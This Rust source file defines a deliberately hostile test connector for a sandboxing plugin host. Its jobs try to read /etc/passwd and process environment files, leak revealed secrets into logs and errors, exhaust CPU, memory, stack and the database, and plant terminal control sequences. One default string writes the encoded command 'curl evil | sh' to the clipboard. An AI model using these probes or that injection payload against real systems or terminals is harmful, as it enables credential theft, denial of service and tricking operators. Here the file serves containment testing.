//! `hostile`: a connector that misbehaves on purpose, to show that the host
//! contains it. Each job does one bad thing; `ok` does nothing wrong, so tests can
//! check that the host runs the next job after a bad one. A few jobs probe host
//! APIs that the shop connectors do not use (runtime subscriptions, search,
//! revealed secrets: `reveal` hands a secret's value straight to the log, the
//! result or the error, where the host must redact it).
//! Its webhooks do the same for calls answered at once: `echo` answers what it
//! got, `fail` returns the error kind asked for, `panic` and `spin` misbehave.

use ferry_sdk::prelude::*;
use ferry_sdk::webhook::{Request, Response};
use serde_json::{Value, json};

/// Answers with status 201, the body it got, its content type, and what it saw
/// of the call in `x-echo-*` headers.
fn echo(ctx: &Context, request: Request) -> Result<Response> {
    let mut response = Response::new(201)
        .header("x-echo-method", &request.method)
        .header("x-echo-path", &request.path)
        .header("x-echo-query", &request.query)
        .header("x-echo-instance", &ctx.info().instance)
        .header("x-echo-headers", &request.headers.len().to_string());
    if let Some(kind) = request.header("content-type") {
        response = response.header("content-type", kind);
    }
    // What the host must not pass on: the secret of the call's authentication.
    let token_seen = request.header("x-hook-token").is_some();
    Ok(response
        .header("x-echo-token-seen", &token_seen.to_string())
        .body(request.body))
}

/// Fails with the error kind named in the query (`kind=retryable` …).
fn fail(_ctx: &Context, request: Request) -> Result<Response> {
    let error = match request.query.as_str() {
        "kind=retryable" => Error::retryable("remote is busy").with_retry_after_ms(30_000),
        "kind=not-found" => Error::not_found("no such thing"),
        "kind=denied" => Error::denied("not for you"),
        _ => Error::fatal("bad data, do not retry"),
    };
    Err(error)
}

fn connector() -> Connector {
    Connector::new()
        .webhook("echo", echo)
        .webhook("signed", |_ctx, request| {
            Ok(Response::json(200, &json!({ "got": request.json()? })))
        })
        .webhook("fail", fail)
        .webhook("panic", |_ctx, _request| -> Result<Response> {
            panic!("hostile webhook panicked on purpose")
        })
        .webhook("spin", |_ctx, _request| -> Result<Response> {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        })
        .job("ok", "Succeeds and echoes its payload", |_ctx, payload| {
            Ok(json!({ "echo": payload }))
        })
        .job(
            "publish",
            "Publishes `messages` ([{topic, key, body}]), then fails if `fail`",
            |_ctx, payload| {
                let messages = payload["messages"].as_array().cloned().unwrap_or_default();
                for m in &messages {
                    let topic = m["topic"].as_str().unwrap_or_default();
                    let key = m["key"].as_str();
                    ferry_sdk::messaging::publish(topic, key, &m["body"], &[("x-test", "1")])?;
                }
                if payload["fail"].as_bool() == Some(true) {
                    return Err(Error::fatal("failed on purpose after publishing"));
                }
                Ok(json!({ "published": messages.len() }))
            },
        )
        .typed_job(
            "typed-sum",
            "Adds `numbers` (a typed job: {numbers: [int]} → {sum})",
            |_ctx, input: SumInput| {
                Ok(SumOutput {
                    sum: input.numbers.iter().sum(),
                })
            },
        )
        .job(
            "store",
            "One operation on the `meta` or `blobs` store: {store, op: get|set|delete|list, key, value, after, limit}",
            |_ctx, payload| store_op(&payload),
        )
        .job(
            "panic",
            "Panics with a message",
            |_ctx, payload| -> Result<Value> {
                panic!(
                    "hostile guest panicked on purpose: {}",
                    payload["why"].as_str().unwrap_or("no reason")
                )
            },
        )
        .job("spin", "Loops forever", |_ctx, _payload| -> Result<Value> {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        })
        .job(
            "grow",
            "Allocates memory until something stops it",
            |_ctx, _payload| -> Result<Value> {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hoard);
                }
            },
        )
        .job(
            "fail-final",
            "Fails with a final error",
            |_ctx, _payload| Err(Error::fatal("bad data, do not retry")),
        )
        .job(
            "fail-retryable",
            "Fails with a retryable error",
            |_ctx, _payload| Err(Error::retryable("remote is down")),
        )
        .job(
            "fetch",
            "Sends `method` (GET) to `url`, following `follow` redirects (0), with the \
             sealed `credential` if given; logs the answer when `log_body` is true; fails \
             on a 4xx/5xx status when `check_status` is true",
            |ctx, payload| {
                let url = payload["url"].as_str().unwrap_or_default();
                let method = payload["method"].as_str().unwrap_or("GET");
                let follow = payload["follow"].as_u64().unwrap_or(0) as u32;
                let mut request = ferry_sdk::http::Request::new(method, url);
                if let Some(name) = payload["credential"].as_str() {
                    request = request.credential(name);
                }
                let mut resp = request.follow_redirects(follow).send()?;
                if payload["check_status"].as_bool() == Some(true) {
                    resp = resp.error_for_status()?;
                }
                if payload["log_body"].as_bool() == Some(true) {
                    ctx.info_log(&format!("answer: {}", resp.text()));
                }
                Ok(json!({ "status": resp.status, "bytes": resp.body.len() }))
            },
        )
        .job(
            "recurse",
            "Recurses until the stack runs out",
            |_ctx, payload| -> Result<Value> {
                fn down(n: u64) -> u64 {
                    if n == u64::MAX {
                        return 0;
                    }
                    let frame = std::hint::black_box([n; 64]);
                    down(n + 1).wrapping_add(frame[3])
                }
                Ok(json!(down(payload["from"].as_u64().unwrap_or(0))))
            },
        )
        .job("flood-log", "Writes `count` log lines", |ctx, payload| {
            let count = payload["count"].as_u64().unwrap_or(100_000);
            for i in 0..count {
                ctx.info_log(&format!("flood line {i} {}", "x".repeat(200)));
            }
            Ok(json!({ "written": count }))
        })
        .job(
            "read-files",
            "Tries to read, list and write files",
            |_ctx, _payload| {
                let mut reached = Vec::new();
                for path in ["/etc/passwd", "/proc/self/environ", "connector.toml", "."] {
                    if std::fs::read(path).is_ok() || std::fs::read_dir(path).is_ok() {
                        reached.push(path);
                    }
                }
                if std::fs::write("/tmp/hostile", b"x").is_ok() {
                    reached.push("/tmp/hostile (write)");
                }
                Ok(json!({ "reached": reached }))
            },
        )
        .job(
            "write-file",
            "Writes `bytes` bytes to /work/`name` and lists /work",
            |_ctx, payload| {
                let name = payload["name"].as_str().unwrap_or("out.txt");
                let bytes = payload["bytes"].as_u64().unwrap_or(0) as usize;
                let written = std::fs::write(format!("/work/{name}"), vec![b'x'; bytes]);
                let mut files: Vec<String> = std::fs::read_dir("/work")
                    .map(|dir| {
                        dir.flatten()
                            .map(|e| e.file_name().to_string_lossy().into_owned())
                            .collect()
                    })
                    .unwrap_or_default();
                files.sort();
                Ok(json!({ "written": written.is_ok(), "files": files }))
            },
        )
        .job("subscribe", "Subscribes job `ok` to record.created on `note`", |ctx, _payload| {
            Ok(json!({ "id": ctx.subscribe("record.created", &["note"], Some("ok"), 3)? }))
        })
        .job("unsubscribe", "Removes a subscription", |ctx, payload| {
            Ok(json!({ "removed": ctx.unsubscribe(payload["id"].as_u64().unwrap_or_default())? }))
        })
        .job("notes", "Creates notes without events, then searches them", |ctx, payload| {
            let quiet = ctx.no_export();
            for i in 0..payload["count"].as_u64().unwrap_or(0) {
                quiet.create("note", &json!({ "n": i, "tag": if i % 2 == 0 { "even" } else { "odd" } }))?;
            }
            let even = ctx.search("note", &[Filter::eq("tag", "even"), Filter::gt("n", 1)], Some(100), 0)?;
            Ok(json!({ "even_above_1": even.iter().map(|r| r.values["n"].clone()).collect::<Vec<_>>() }))
        })
        .job(
            "count-slowly",
            "Counts to `total` (100), one item every `ms` (50) ms, reporting progress \
             (a running job whose progress operators can watch); stops early when asked",
            |ctx, payload| {
                let total = payload["total"].as_u64().unwrap_or(100);
                let ms = payload["ms"].as_u64().unwrap_or(50);
                let mut done = 0;
                while done < total && !ctx.stop_requested() {
                    std::thread::sleep(std::time::Duration::from_millis(ms));
                    done += 1;
                    ctx.progress(total, done);
                }
                Ok(json!({ "counted": done }))
            },
        )
        .job(
            "until-stopped",
            "Reports progress until an operator asks it to stop, then ends cleanly",
            |ctx, _payload| {
                let mut n = 0u64;
                while !ctx.stop_requested() {
                    n += 1;
                    ctx.progress(0, n);
                    std::thread::sleep(std::time::Duration::from_millis(20));
                }
                Ok(json!({ "stopped_after": n }))
            },
        )
        .job(
            "record-run",
            "Writes a `run` record when it starts and one when it ends (to prove no job runs twice at once)",
            |ctx, payload| {
                let quiet = ctx.no_export();
                let job = ctx.job_id().unwrap_or_default();
                let now = || {
                    std::time::SystemTime::now()
                        .duration_since(std::time::UNIX_EPOCH)
                        .map(|d| d.as_micros() as u64)
                        .unwrap_or_default()
                };
                quiet.create("run", &json!({ "job": job, "phase": "start", "at": now() }))?;
                std::thread::sleep(std::time::Duration::from_millis(payload["ms"].as_u64().unwrap_or(5)));
                quiet.create("run", &json!({ "job": job, "phase": "end", "at": now() }))?;
                Ok(json!({ "job": job }))
            },
        )
        .job(
            "slow-down",
            "Fails as a remote asking to wait would (HTTP 429 with Retry-After)",
            |_ctx, payload| {
                let ms = payload["retry_after_ms"].as_u64().unwrap_or(60_000);
                Err(Error::retryable("remote said 429 Too Many Requests").with_retry_after_ms(ms))
            },
        )
        .job(
            "reveal",
            "Reveals secret `name`, logs it, and returns it (or, with `fail` or `panic`, \
             fails or panics with it): the host must redact it everywhere",
            |ctx, payload| {
                let name = payload["name"].as_str().unwrap_or_default();
                let value = ctx.reveal_secret(name)?;
                ctx.info_log(&format!("revealed {name}: {value}"));
                if payload["fail"].as_bool() == Some(true) {
                    return Err(Error::fatal(format!("failing with {value}")));
                }
                if payload["panic"].as_bool() == Some(true) {
                    panic!("panicking with {value}");
                }
                Ok(json!({ "value": value, "bytes": value.len() }))
            },
        )
        .job(
            "read-env",
            "Reads environment variables and files",
            |_ctx, _payload| {
                let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let file = std::fs::read_to_string("/etc/passwd").is_ok();
                Ok(json!({ "env": env, "read_file": file }))
            },
        )
        // Events (issue 8, item 1): forged `record.*` events, undeclared
        // ones, and the custom events this module does declare.
        .emits("hostile.ping")
        .emits("hostile.broadcast")
        .job(
            "emit",
            "Emits event `name` on `model` (record `id`) with `payload`",
            |ctx, payload| {
                let id = payload["id"].as_u64();
                ctx.emit(
                    payload["name"].as_str().unwrap_or_default(),
                    payload["model"].as_str().unwrap_or_default(),
                    id,
                    &payload["payload"],
                )?;
                Ok(json!({ "emitted": payload["name"] }))
            },
        )
        // Limits (issue 8, item 5): produce more than a run may.
        .job(
            "produce",
            "Produces `count` of `what` (jobs, events, records, links, result, error bytes), \
             with `channel` / `key` for jobs",
            |ctx, payload| {
                let count = payload["count"].as_u64().unwrap_or(1);
                let made = match payload["what"].as_str().unwrap_or_default() {
                    "result" => return Ok(json!({ "blob": "r".repeat(count as usize) })),
                    "error" => return Err(Error::fatal("e".repeat(count as usize))),
                    what => what.to_string(),
                };
                for i in 0..count {
                    match made.as_str() {
                        "jobs" => {
                            let mut job = ferry_sdk::context::Job::new("ok", &json!({ "i": i }));
                            if let Some(c) = payload["channel"].as_str() {
                                job = job.channel(c);
                            }
                            if let Some(k) = payload["key"].as_str() {
                                job = job.identity_key(format!("{k}{i}"));
                            }
                            ctx.enqueue(job)?;
                        }
                        "events" => ctx.emit("hostile.ping", "note", Some(i), &json!({}))?,
                        "records" => {
                            ctx.no_export().create("note", &json!({ "i": i }))?;
                        }
                        "links" => {
                            ctx.links().bind("note", i + 1, &format!("x{i}"), None)?;
                        }
                        other => return Err(Error::fatal(format!("nothing to produce: {other}"))),
                    }
                }
                Ok(json!({ "made": count }))
            },
        )
        // Database hog: makes searching local records as costly as it can.
        // Stores `records` `haystack` records whose `text` is `kib` KiB of
        // `a` ending in `b` (none by default), then searches `haystack` with
        // the filters asked: `like` (a pattern on `text`, `repeat` times),
        // `one_of` (a list of that many numbers for `id`), `eq` (any JSON
        // value for `text`), for at most `limit` records (10). The host must
        // refuse, or stop, what would hold the database past the job's time
        // budget.
        .job(
            "hog-db",
            "Stores big records, then searches them as costly as asked",
            |ctx, payload| {
                let records = payload["records"].as_u64().unwrap_or(0);
                if records > 0 {
                    let kib = payload["kib"].as_u64().unwrap_or(4096) as usize;
                    let text = format!("{}b", "a".repeat((kib * 1024).saturating_sub(1)));
                    let quiet = ctx.no_export();
                    for _ in 0..records {
                        quiet.create("haystack", &json!({ "text": text }))?;
                    }
                }
                let mut filters = Vec::new();
                if let Some(pattern) = payload["like"].as_str() {
                    for _ in 0..payload["repeat"].as_u64().unwrap_or(1) {
                        filters.push(Filter::like("text", pattern));
                    }
                }
                if let Some(n) = payload["one_of"].as_u64() {
                    filters.push(Filter::one_of("id", (0..n).map(Value::from).collect()));
                }
                if let Some(value) = payload.get("eq") {
                    filters.push(Filter::eq("text", value.clone()));
                }
                let limit = payload["limit"].as_u64().unwrap_or(10) as u32;
                let found = ctx.search("haystack", &filters, Some(limit), 0)?;
                Ok(json!({ "found": found.len() }))
            },
        )
        // Terminal injection (issue 8, item 2): every text this job leaves
        // for the operator carries `text` (by default: a hidden-text switch,
        // an OSC 52 clipboard write, a forged capability line, a bidi
        // override, a C1 control) in a log line, a record value, a link's
        // external id, a checkpoint note, and its result or (`fail`) its error.
        .job(
            "inject",
            "Leaves `text` (terminal control sequences) in its log, a linked note, a \
             checkpoint, and its result or, with `fail`, its error",
            |ctx, payload| {
                let text = payload["text"].as_str().unwrap_or(
                    "\x1b[8mhidden\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n  network: none\u{202e}\u{9b}2J",
                );
                ctx.info_log(&format!("log {text}"));
                // One external id per job: two runs at once must not collide.
                // (Not `text`: the host refuses control characters in ids.)
                let external = format!("ext {}", ctx.job_id().unwrap_or_default());
                let note = ctx
                    .no_export()
                    .create_linked("note", &json!({ "text": text }), &external)?;
                ctx.checkpoint("note", note, &format!("note {text}"))?;
                if payload["fail"].as_bool() == Some(true) {
                    return Err(Error::fatal(format!("error {text}")));
                }
                Ok(json!({ "result": text }))
            },
        )
}

ferry_sdk::export_connector!(connector);

/// One operation of job `store` on the `meta` or `blobs` store.
fn store_op(payload: &Value) -> Result<Value> {
    use ferry_sdk::{blobs, meta};
    let key = payload["key"].as_str().unwrap_or_default();
    let value = payload["value"].as_str().unwrap_or_default().as_bytes();
    let after = payload["after"].as_str();
    let limit = payload["limit"].as_u64().unwrap_or(100) as u32;
    let text = |bytes: Option<Vec<u8>>| bytes.map(|b| String::from_utf8_lossy(&b).into_owned());
    let meta_store = payload["store"] == "meta";
    Ok(match payload["op"].as_str().unwrap_or_default() {
        "get" if meta_store => json!({ "value": text(meta::get(key)?) }),
        "get" => json!({ "value": text(blobs::get(key)?) }),
        "set" if meta_store => {
            meta::set(key, value)?;
            json!({ "ok": true })
        }
        "set" => {
            blobs::put(key, value)?;
            json!({ "ok": true })
        }
        "delete" if meta_store => json!({ "deleted": meta::delete(key)? }),
        "delete" => json!({ "deleted": blobs::delete(key)? }),
        "list" if meta_store => json!({ "keys": meta::list_keys(key, after, limit)? }),
        "list" => {
            let listed: Vec<Value> = blobs::list(key, after, limit)?
                .into_iter()
                .map(|b| json!({ "key": b.key, "size": b.size }))
                .collect();
            json!({ "blobs": listed })
        }
        other => return Err(Error::fatal(format!("unknown op {other:?}"))),
    })
}

/// The payload of job `typed-sum`.
#[derive(serde::Deserialize)]
struct SumInput {
    numbers: Vec<i64>,
}

/// The result of job `typed-sum`.
#[derive(serde::Serialize)]
struct SumOutput {
    sum: i64,
}
